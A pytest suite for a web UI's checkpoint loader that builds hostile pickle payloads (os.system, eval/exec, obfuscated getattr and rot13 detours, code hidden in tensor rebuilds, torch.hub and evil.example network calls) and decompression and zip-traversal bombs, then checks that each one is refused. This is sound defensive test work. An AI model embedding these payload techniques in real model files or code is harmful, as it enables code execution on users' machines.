"""Hostile pickles: every one is refused, none runs, none costs much, and each is told about."""

from __future__ import annotations

import io
import pickle
import struct
import tarfile
import time
import tracemalloc
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy
import pytest
import torch

from tests.checkpoints.pickle_writing import (
    MOST_BYTES,
    MOST_SECONDS,
    PROTOCOL,
    REBUILD,
    call,
    legacy,
    refused,
    text,
    touch,
    zipped,
)
from tests.patience import wait_until
from webui.checkpoints import pickle_machine
from webui.checkpoints.pickles import read_pickle
from webui.checkpoints.weights import open_weights
from webui.errors import UnsafeCheckpointError


class Reduced:
    """Is pickled as a call."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self.call = function, arguments

    def __reduce__(self) -> Any:
        return self.call


def through_getattr(trace: Path) -> bytes:
    module = call("builtins.__import__", text("os"))
    function = call("builtins.getattr", module, text("system"))
    return function + b"(" + text(touch(trace)) + b"tR"


def through_attrgetter(trace: Path) -> bytes:
    getter = call("operator.attrgetter", text("system"))
    return getter + b"(" + call("importlib.import_module", text("os")) + b"tR(" + (
        text(touch(trace)) + b"tR"
    )  # fmt: skip


def computed_name(trace: Path) -> bytes:
    """Names "posix" and "system" come out of a decoder that numpy's own pickles may use, too."""
    module = call("_codecs.encode", text("cbfvk"), text("rot13"))
    function = call("_codecs.encode", text("flfgrz"), text("rot13"))
    return module + function + b"\x93(" + text(touch(trace)) + b"tR"


def inside_a_tensor(trace: Path) -> bytes:
    """A tensor whose shape must first be worked out by a command."""
    return REBUILD + b"(N" + call("os.system", text(touch(trace))) + b")))tR"


def object_array(trace: Path) -> bytes:
    array = numpy.array([Reduced(__import__("os").system, touch(trace))], dtype=object)
    return pickle.dumps({"state_dict": {"a": array}}, protocol=4)[2:-1]


def set_state(trace: Path) -> bytes:
    """functools.partial takes the function to call from its state."""
    made = call("functools.partial", b"cbuiltins\nprint\n")
    state = b"(cos\nsystem\n(" + text(touch(trace)) + b"t}NtR"
    return made + state.replace(b"NtR", b"Nt") + b"b(tR"


def own_dictionary(trace: Path) -> bytes:
    made = b"c__main__\nEvilDict\n)\x81"
    return made + b"(" + text("a") + call("os.system", text(touch(trace))) + b"u"


def laughs(_trace: Path) -> bytes:
    """Ten lists of ten lists of ten … of the first."""
    lines = [b"]\x94"]
    for level in range(14):
        lines.append(b"]\x94(" + b"h" + bytes([level]) * 1 + (b"h" + bytes([level])) * 9 + b"e")
    return b"".join(lines)


UNSAFE: dict[str, tuple[Callable[[Path], bytes], str]] = {
    "os.system": (lambda t: call("os.system", text(touch(t))), "run a program: os.system('touch"),
    "posix.system": (lambda t: call("posix.system", text(touch(t))), "run a program: posix"),
    "subprocess": (
        lambda t: call("subprocess.Popen", b"(" + text("touch") + text(str(t)) + b"l"),
        "run a program: subprocess.Popen(['touch'",
    ),
    "eval": (
        lambda t: call("builtins.eval", text(f"open({str(t)!r}, 'w')")),
        "run Python code: builtins.eval(",
    ),
    "exec by INST": (
        lambda t: b"(" + text(f"open({str(t)!r}, 'w')") + b"ibuiltins\nexec\n",
        "run Python code: builtins.exec(",
    ),
    "exec by OBJ": (
        lambda t: b"(cbuiltins\nexec\n" + text(f"open({str(t)!r}, 'w')") + b"o",
        "run Python code: builtins.exec(",
    ),
    "getattr chain": (through_getattr, "getattr(builtins.__import__('os'), 'system')"),
    "attrgetter": (through_attrgetter, "detour: operator.attrgetter('system')"),
    "computed names": (computed_name, "whose name is only worked out while it is read"),
    "inside a tensor": (inside_a_tensor, "run a program: os.system('touch"),
    "numpy object array": (object_array, "run a program: posix.system('touch"),
    "__setstate__": (set_state, "detour: functools.partial(builtins.print"),
    "dict subclass": (own_dictionary, "__main__.EvilDict"),
    "torch.hub": (
        lambda t: call("torch.hub.load", text("evil/repo"), text("model")),
        "load further files that may hold code: torch.hub.load('evil/repo', 'model')",
    ),
    "torch.load": (
        lambda t: call("torch.load", text("/tmp/second.pt")),
        "load further files that may hold code: torch.load('/tmp/second.pt')",
    ),
    "another pickle inside": (
        lambda t: call("_pickle.loads", b"C\x04cos\n"),
        "load further files that may hold code",
    ),
    "network": (
        lambda t: call("urllib.request.urlopen", text("http://evil.example/")),
        "go to the network: urllib.request.urlopen('http://evil.example/')",
    ),
    "file": (
        lambda t: call("builtins.open", text(str(t)), text("w")),
        "read or change files, or the system: builtins.open(",
    ),
    "extension registry": (lambda t: b"\x82\x07)R", "extension number 7"),
    "named but not called": (lambda t: b"cos\nsystem\n", "run a program: os.system"),
    "cut after the call": (
        lambda t: call("os.system", text(touch(t))) + b"X\xff\xff\xff\x7f",
        "run a program: os.system('touch",
    ),
}  # fmt: skip
"""What they ask for is told; pickle itself would do it."""

DAMAGED: dict[str, tuple[Callable[[Path], bytes], str]] = {
    "memo bomb": (lambda t: b"]r\xff\xff\xff\x7f" * 50 + b"j\xff\xff\xff\x6f", "not kept"),
    "billion laughs": (laughs, "describes more than"),
    "giant text": (lambda t: b"\x8d" + struct.pack("<Q", 1 << 40), "too early"),
    "giant bytes": (lambda t: b"\x8e" + struct.pack("<Q", 1 << 62), "too early"),
    "giant byte array": (lambda t: b"\x96" + struct.pack("<Q", 1 << 40), "too early"),
    "giant number": (lambda t: b"\x8b" + struct.pack("<I", 1 << 30), "too large"),
    "giant written number": (lambda t: b"I" + b"9" * 40_000 + b"\n", "too large"),
    "buffer from outside": (lambda t: b"\x97", "unknown instruction"),
    "nothing on the stack": (lambda t: b"000R", "mark"),
    "persistent id of a number": (lambda t: b"K\x01Q", "outside data"),
    "persistent id in a line": (lambda t: b"Pevil\n", "outside data"),
    "persistent id of another kind": (
        lambda t: b"(" + text("storage") + b"cbuiltins\nint\n" + text("0") + b"NK\x01tQ",
        "outside data",
    ),
    "function with a state": (lambda t: REBUILD + b"}b", "given a state"),
    "shape of a giant": (
        lambda t: REBUILD + b"((" + text("storage") + b"ctorch\nFloatStorage\n" + text("0")
        + b"NK\x01tQK\x00(" + b"\x8a\x3f" + b"\x7f" * 63 + b"t(K\x01ttR",
        "impossible shape",
    ),
    "shape of many axes": (
        lambda t: REBUILD + b"((" + text("storage") + b"ctorch\nFloatStorage\n" + text("0")
        + b"NK\x01tQK\x00(" + b"K\x02" * 5000 + b"t(" + b"K\x02" * 5000 + b"ttR",
        "impossible shape",
    ),
    "rebuilt again and again": (
        lambda t: b"ctorch._tensor\n_rebuild_from_type_v2\n("
        + b"ctorch._tensor\n_rebuild_from_type_v2\nN)}tR",
        "again and again",
    ),
}  # fmt: skip
"""Nothing is asked for by name; they only cost, or lie."""

HARMLESS: dict[str, Callable[[Path], bytes]] = {
    "a terabyte of zeros": lambda t: call("builtins.bytearray", b"\x8a\x06" + b"\0" * 5 + b"\x01"),
    "a list of a billion": lambda t: call(
        "builtins.list", call("builtins.range", b"J\x00\xca\x9a\x3b")
    ),
    "lists in each other": lambda t: b"]" * 50_000 + b"a" * 49_999,
    "tuples in each other": lambda t: b")" + b"\x85" * 50_000,
    "keys that nest": lambda t: b"}" + b")" + b"\x85" * 50_000 + b"Ns",
    "keys that collide": lambda t: b"}("
    + b"".join(b"\x8a\x0a" + (n * (2**61 - 1)).to_bytes(10, "little") + b"N" for n in range(20_000))
    + b"u",
    "frame of a giant": lambda t: b"\x95" + struct.pack("<Q", 0) + b"}",
}  # fmt: skip
"""They hold no tensor and ask for nothing; reading them must cost nothing either."""


@pytest.mark.parametrize("name", UNSAFE)
@pytest.mark.parametrize("form", ["zip", "stream", "legacy"])
def test_unsafe_pickle_when_read_is_refused_and_says_what_it_wanted(
    name: str, form: str, tmp_path: Path
) -> None:
    make, told = UNSAFE[name]
    trace = tmp_path / "it-ran"
    path, hostile = tmp_path / "evil.ckpt", make(trace)
    if form == "zip":
        zipped(path, hostile)
    elif form == "stream":
        path.write_bytes(PROTOCOL + hostile + b".")
    else:
        legacy(path, pickle.dumps({}, 2), PROTOCOL + hostile + b".")
    error = refused(path)
    assert isinstance(error, UnsafeCheckpointError)
    assert told in error.message, error.message
    assert told.endswith(error.wishes[-1]["call"]) or error.wishes
    assert error.wanted in error.message
    with pytest.raises(UnsafeCheckpointError), open_weights(path):
        pass
    assert not trace.exists()


@pytest.mark.parametrize(
    "name",
    ["os.system", "eval", "exec by INST", "exec by OBJ", "getattr chain", "attrgetter",
     "computed names", "numpy object array", "__setstate__", "file"],
)  # fmt: skip
def test_the_attacks_themselves_work(name: str, tmp_path: Path) -> None:
    trace = tmp_path / "it-ran"
    pickle.loads(PROTOCOL + UNSAFE[name][0](trace) + b".")
    wait_until(trace.exists, "this pickle does nothing, so refusing it proves nothing")


@pytest.mark.parametrize("name", DAMAGED)
def test_costly_pickle_when_read_is_refused_soon(name: str, tmp_path: Path) -> None:
    make, told = DAMAGED[name]
    assert told in refused(zipped(tmp_path / "evil.ckpt", make(tmp_path))).message


def test_pickle_without_an_end_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pickle_machine, "MAX_STEPS", 1000)
    path = zipped(tmp_path / "evil.ckpt", b"N0" * 2000 + b"N")
    assert "more than 1000 instructions" in refused(path).message


@pytest.mark.parametrize("name", HARMLESS)
def test_endless_pickle_when_read_costs_nothing(name: str, tmp_path: Path) -> None:
    path = zipped(tmp_path / "odd.ckpt", HARMLESS[name](tmp_path))
    began = time.process_time()
    tracemalloc.start()
    assert read_pickle(path).tensors == {}
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert time.process_time() - began < MOST_SECONDS and peak < MOST_BYTES


def test_archive_that_would_unpack_elsewhere_is_refused_and_unpacked_nowhere(
    tmp_path: Path,
) -> None:
    inner = tmp_path / "models"
    inner.mkdir()
    path = inner / "evil.ckpt"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("../../data.pkl", PROTOCOL + b"}.")
        archive.writestr("../it-ran", b"")
    assert "not one written by torch" in refused(path).message
    assert list(tmp_path.rglob("*")) == [inner, path]


def test_archive_with_two_descriptions_is_refused(tmp_path: Path) -> None:
    path = zipped(tmp_path / "evil.ckpt", b"}")
    with zipfile.ZipFile(path, "a") as archive, pytest.warns(UserWarning, match="Duplicate"):
        archive.writestr("archive/data.pkl", PROTOCOL + call("os.system", text("true")) + b".")
    assert "twice" in refused(path).message


@pytest.mark.parametrize(
    ("part", "method", "megabytes"),
    [
        ("byteorder", zipfile.ZIP_DEFLATED, 120),
        ("data.pkl", zipfile.ZIP_DEFLATED, 120),
        ("data.pkl", zipfile.ZIP_LZMA, 33),
    ],
)
def test_archive_that_unpacks_to_a_giant_is_refused(
    part: str, method: int, megabytes: int, tmp_path: Path
) -> None:
    path = tmp_path / "evil.ckpt"
    with zipfile.ZipFile(path, "w", method) as archive:
        if part != "data.pkl":
            archive.writestr("archive/data.pkl", PROTOCOL + b"}.")
        with archive.open(f"archive/{part}", "w") as member:
            for _ in range(megabytes):
                member.write(bytes(1 << 20))
    assert path.stat().st_size < 1 << 20
    assert "larger than" in refused(path).message


def test_archive_that_lies_about_sizes_and_places_is_refused(tmp_path: Path) -> None:
    good = tmp_path / "good.pt"
    torch.save({"a": torch.ones(64)}, good)
    data = bytearray(good.read_bytes())
    with zipfile.ZipFile(good) as archive:
        place = archive.getinfo("good/data/0").header_offset
    data[place : place + 4] = b"EVIL"
    (tmp_path / "bad.pt").write_bytes(data)
    assert "lies elsewhere" in refused(tmp_path / "bad.pt").message


def test_archive_with_a_password_is_refused(tmp_path: Path) -> None:
    path = zipped(tmp_path / "evil.ckpt", b"}")
    data = bytearray(path.read_bytes())
    data[data.index(b"PK\x01\x02") + 8] |= 1  # the flag "encrypted" in the table of contents
    data[6] |= 1
    path.write_bytes(data)
    assert "damaged" in refused(path).message


def test_tar_of_early_torch_is_named(tmp_path: Path) -> None:
    path = tmp_path / "old.pt"
    with tarfile.open(path, "w") as archive:
        info = tarfile.TarInfo("pickle")
        info.size = 4
        archive.addfile(info, io.BytesIO(b"cos\n"))
    assert "tar archive" in refused(path).message


def test_pickle_of_protocol_0_is_no_weights_file(tmp_path: Path) -> None:
    path = tmp_path / "evil.pt"
    path.write_bytes(b"cos\nsystem\n(S'true'\ntR.")
    assert "neither a safetensors file nor a torch file" in refused(path).message


@pytest.mark.parametrize("keys", [["0", "0"], ["1"], [["0"]], 7])
def test_old_file_whose_list_of_data_lies_is_refused(keys: Any, tmp_path: Path) -> None:
    good = tmp_path / "good.pt"
    torch.save({"a": torch.ones(4)}, good, _use_new_zipfile_serialization=False)
    data = good.read_bytes()
    end = data.rindex(b"]q")
    path = tmp_path / "bad.pt"
    path.write_bytes(data[:end] + pickle.dumps(keys, 2)[2:] + struct.pack("<q", 1) * 20)
    refused(path)


def test_report_stays_short_whatever_it_holds(tmp_path: Path) -> None:
    long = b"(" + text("x" * 10_000) * 50 + b"l"
    path = zipped(tmp_path / "evil.ckpt", (call("os.system", long, long) + b"0") * 3 + b"N")
    error = refused(path)
    assert len(error.message) < 2500
    many = b"0".join(call(f"evil.f{n}", text("x")) for n in range(500))
    assert len(refused(zipped(tmp_path / "many.ckpt", many)).message) < 2500
